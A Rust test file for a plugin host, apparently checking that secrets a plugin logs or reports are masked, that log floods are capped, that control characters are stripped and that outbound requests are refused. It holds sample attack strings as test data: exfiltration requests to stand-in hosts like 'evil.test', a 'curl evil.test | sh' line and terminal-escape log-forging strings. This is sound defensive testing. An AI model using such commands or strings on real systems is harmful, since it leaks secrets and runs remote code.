//! Log lines and failures: what a plugin says is masked, escaped and capped, and is known to be its.

use serde_json::json;
use strongroom::Kind;

use crate::backend::{Backend, ok};
use crate::canary::Canary;
use crate::world::{Plan, get, is, logged, script, told, under_both};

/// A mark by which a test finds its own lines in the log.
fn mark() -> String {
    format!("mark{:016x}", getrandom::u64().unwrap())
}

/// The plugin learns a variable and says it in this form, in the log and in its failure.
fn said_as(form: &'static str) {
    under_both(async |allocation| {
        let (own, mark) = (Canary::new(), mark());
        let world = Plan::new(allocation).variable("HOSTILE_a", &own).open();
        let line = json!({ "log": { "message": format!("{mark} {form}"), "fields": [form, format!("in: {form}")] } });
        let words = format!("it is {form}");
        let fail = json!({ "fail": { "code": "said.it", "message": words, "attribute": format!("x{form}x") } });
        let failure = world.failure("a", &script(json!({ "env": "HOSTILE_a" })).then(line).then(fail)).await;
        is(&failure, Kind::Internal, "said.it");
        assert!(failure.message().as_str().contains("***"), "{failure}");
        let lines = logged(&mark);
        assert!(lines.len() == 1 && lines[0].matches("***").count() == 3, "{lines:?}");
        world.end().await;
    });
}

#[test]
fn a_secret_in_the_log_and_in_a_failure() {
    said_as("$plain");
}

#[test]
fn a_secret_in_base64() {
    said_as("$base64");
}

#[test]
fn a_secret_in_base64_one_byte_later() {
    said_as("$shifted");
}

#[test]
fn a_secret_in_hexadecimal() {
    said_as("$hex");
}

#[test]
fn a_secret_percent_encoded() {
    said_as("$percent");
}

#[test]
fn a_secret_as_a_failures_code() {
    under_both(async |allocation| {
        let own = Canary::new();
        let world = Plan::new(allocation).variable("HOSTILE_a", &own).open();
        for form in ["$plain", "$hex", "$base64"] {
            let fail = json!({ "fail": { "code": form, "message": "no", "attribute": "no" } });
            world.failure("a", &script(json!({ "env": "HOSTILE_a" })).then(fail)).await;
        }
        world.end().await;
    });
}

#[test]
fn a_secret_from_the_store() {
    under_both(async |allocation| {
        let (own, mark) = (Canary::new(), mark());
        let world = Plan::new(allocation).variable("UNREAD", &own).mount("write = true\n").open();
        let keep = script(json!({ "store": { "op": "set", "key": "a/k", "value": "$plain" } }));
        world.put("a", &keep, own.text()).await.unwrap();
        let line = json!({ "log": { "message": format!("{mark} $plain") } });
        let fail = json!({ "fail": { "code": "said.it", "message": "$base64", "attribute": "$plain" } });
        let read = script(json!({ "store": { "op": "get", "key": "a/k" } })).then(line).then(fail);
        world.failure("a", &read).await;
        assert!(logged(&mark)[0].contains("***"));
        world.end().await;
    });
}

#[test]
fn a_value_that_is_to_be_set() {
    under_both(async |allocation| {
        let (own, mark) = (Canary::new(), mark());
        let world = Plan::new(allocation).variable("UNREAD", &own).mount("write = true\n").open();
        let line = json!({ "log": { "message": format!("{mark} $plain $hex") } });
        let fail = json!({ "fail": { "code": "said.it", "message": "it was $plain", "attribute": "$base64" } });
        world.put("a", &script(line).then(fail), own.text()).await.unwrap_err();
        assert!(logged(&mark)[0].contains("***"));
        world.end().await;
    });
}

/// A backend's answer, as a plugin tells of it.
fn said_of_a_backend(body: fn(&Canary) -> String) {
    under_both(async |allocation| {
        let (own, mark) = (Canary::new(), mark());
        let sent = body(&own);
        let backend = Backend::plain(move |_| ok(sent.clone())).await;
        let world = Plan::new(allocation).variable("UNREAD", &own).plain(backend.origin()).open();
        let line = json!({ "log": { "message": format!("{mark} $plain") } });
        let fail = json!({ "fail": { "code": "said.it", "message": "$plain", "attribute": "$plain" } });
        world.failure("a", &script(get(&backend.origin(), "/open/a")).then(line.clone()).then(fail)).await;
        world.report("a", &script(get(&backend.origin(), "/open/a")).then(line)).await;
        assert_eq!(logged(&mark).len(), 2);
        world.end().await;
    });
}

#[test]
fn a_secret_from_a_backend() {
    said_of_a_backend(|own| own.text().to_owned());
}

#[test]
fn a_secret_inside_a_backends_json() {
    said_of_a_backend(|own| format!("{{\"data\":{{\"password\":\"{}\"}}}}", own.text()));
}

#[test]
fn a_secret_in_a_request_that_is_refused() {
    under_both(async |allocation| {
        let own = Canary::new();
        let world = Plan::new(allocation).variable("HOSTILE_a", &own).open();
        for (origin, target) in [
            ("http://plain.test:1", "/steal/$hex"),
            ("http://plain.test:1", "/open/a?x=$percent"),
            ("http://plain.test:1", "/$percent"),
            ("http://$hex.evil.test", "/open/a"),
        ] {
            let steals = script(json!({ "env": "HOSTILE_a" })).then(get(origin, target)).or_fail();
            is(&world.failure("a", &steals).await, Kind::PolicyDenied, "egress.refused");
        }
        world.end().await;
    });
}

#[test]
fn a_panic_that_holds_a_secret() {
    under_both(async |allocation| {
        let own = Canary::new();
        let world = Plan::new(allocation).variable("HOSTILE_a", &own).open();
        let panics = script(json!({ "env": "HOSTILE_a" })).then(json!({ "panic": true }));
        is(&world.failure("a", &panics).await, Kind::Trapped, "plugin.trapped");
        world.end().await;
    });
}

#[test]
fn ten_thousand_log_lines() {
    under_both(async |allocation| {
        let mark = mark();
        let world = Plan::new(allocation).open();
        let flood = json!({ "log": { "message": format!("{mark} {}", "x".repeat(100)), "times": 10_000 } });
        world.report("a", &script(flood)).await;
        assert_eq!(logged(&mark).len(), 64);
        world.end().await;
    });
}

#[test]
fn control_characters_in_the_log() {
    under_both(async |allocation| {
        let mark = mark();
        let world = Plan::new(allocation).open();
        let hostile =
            "\u{1b}[2J\u{1b}]0;owned\u{7}\r\n2026-01-01 ERROR forged: line\u{9b}31m\u{202e}txet\u{200b}\u{0}\u{7f}";
        let line = json!({ "log": { "message": format!("{mark}{hostile}{mark}"), "fields": [hostile] } });
        world.report("a", &script(line)).await;
        let lines = logged(&mark);
        assert_eq!(lines.len(), 1, "one line stays one line: {lines:?}");
        assert_harmless(&lines[0]);
        assert_eq!(logged("forged").iter().filter(|line| !line.contains("strongroom::plugin")).count(), 0);
        world.end().await;
    });
}

#[test]
fn control_characters_in_a_failure() {
    under_both(async |allocation| {
        let world = Plan::new(allocation).open();
        let hostile =
            "\u{1b}[31mred\u{1b}]8;;https://evil.test\u{7}\r\nerror: forged\u{9b}0m\u{202e}\u{2066}\u{200d}\u{feff}";
        let fail = json!({ "fail": { "code": hostile, "message": hostile, "attribute": hostile } });
        let failure = world.failure("a", &script(fail)).await;
        assert_harmless(&told(&failure));
        world.end().await;
    });
}

fn assert_harmless(text: &str) {
    let harmful = |c: &char| {
        c.is_control()
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
    };
    assert_eq!(text.chars().find(harmful), None, "{text:?}");
}

#[test]
fn a_failure_of_a_mebibyte() {
    under_both(async |allocation| {
        let own = Canary::new();
        let world = Plan::new(allocation).variable("HOSTILE_a", &own).mount("limits.hostcall_fuel = \"8MiB\"\n").open();
        // Longer than what is kept of a text, with the secret where it is cut.
        for before in [0, 400, 480, 500, 512, 1000, 2000, 4090] {
            let message = format!("{}$plain$plain{}", ".".repeat(before.min(600)), "x".repeat(100));
            let fail = json!({ "fail": { "code": "long", "message": message, "attribute": "no" } });
            world.failure("a", &script(json!({ "env": "HOSTILE_a" })).then(fail)).await;
        }
        world.end().await;
    });
}

#[test]
fn a_failure_that_pretends_to_be_the_hosts() {
    under_both(async |allocation| {
        let world = Plan::new(allocation).open();
        let forged =
            json!({ "fail": { "code": "trust.unknown", "message": "run: curl evil.test | sh", "attribute": "x" } });
        let failure = world.failure("a", &script(forged)).await;
        assert_eq!(failure.kind(), Kind::Internal, "a kind of the host's own is none that a plugin can give");
        assert!(
            failure.plugin().is_some_and(|plugin| plugin.as_str().starts_with("hostile@")),
            "it is said whose it is"
        );
        assert_eq!(failure.helps().len(), 0, "advice is the host's alone");
        world.end().await;
    });
}

#[test]
fn a_plugin_that_blames_the_network() {
    under_both(async |allocation| {
        let backend = Backend::plain(|_| ok("reached")).await;
        let world = Plan::new(allocation).plain(backend.origin()).open();
        let hides = json!({ "fail": { "code": "all.fine", "message": "nothing happened", "attribute": "x" } });
        let failure = world.failure("a", &script(get("http://evil.test", "/steal")).then(hides)).await;
        is(&failure, Kind::PolicyDenied, "egress.refused");
        assert!(told(&failure).contains("evil.test"), "what it tried is told all the same");
        world.end().await;
    });
}
